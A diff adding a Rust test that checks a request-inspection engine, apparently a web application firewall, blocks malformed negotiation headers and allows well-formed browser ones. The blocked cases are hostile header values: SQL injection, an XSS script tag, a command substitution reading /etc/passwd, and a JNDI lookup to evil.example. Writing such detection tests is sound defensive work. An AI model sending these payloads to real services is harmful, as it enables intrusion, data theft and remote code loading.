@@ -159,3 +159,37 @@ fn names_of_structured_members_are_inspected_once() {
         ins.findings
     );
 }
+
+#[test]
+fn negotiation_headers_are_inspected_unless_well_formed() {
+    let e = engine(Mode::Block);
+    let get = |name: &str, value: &str| Request::new("GET", "/").header(name, value);
+    // Attack syntax breaks the strict grammar: inspected and blocked.
+    for (name, value) in [
+        (
+            "Accept-Language",
+            "en-US' union select password from users--",
+        ),
+        ("Accept", "text/html;q=<script>alert(1)</script>"),
+        ("Accept-Encoding", "gzip;$(cat /etc/passwd)"),
+        ("Accept-Charset", "${jndi:ldap://evil.example/a}"),
+    ] {
+        let ins = e.inspect(&get(name, value));
+        assert_eq!(ins.verdict.action, Action::Block, "{name}: {value}");
+    }
+    // Well-formed browser values pass with no attack finding at all.
+    let ins = e.inspect(
+        &get(
+            "Accept",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        )
+        .header("Accept-Language", "de-CH, de;q=0.9, en;q=0.8, *;q=0.5")
+        .header("Accept-Encoding", "gzip, deflate, br, zstd"),
+    );
+    assert_eq!(ins.verdict.action, Action::Allow);
+    assert!(
+        ins.findings.iter().all(|f| !f.class.is_attack()),
+        "{:?}",
+        ins.findings
+    );
+}
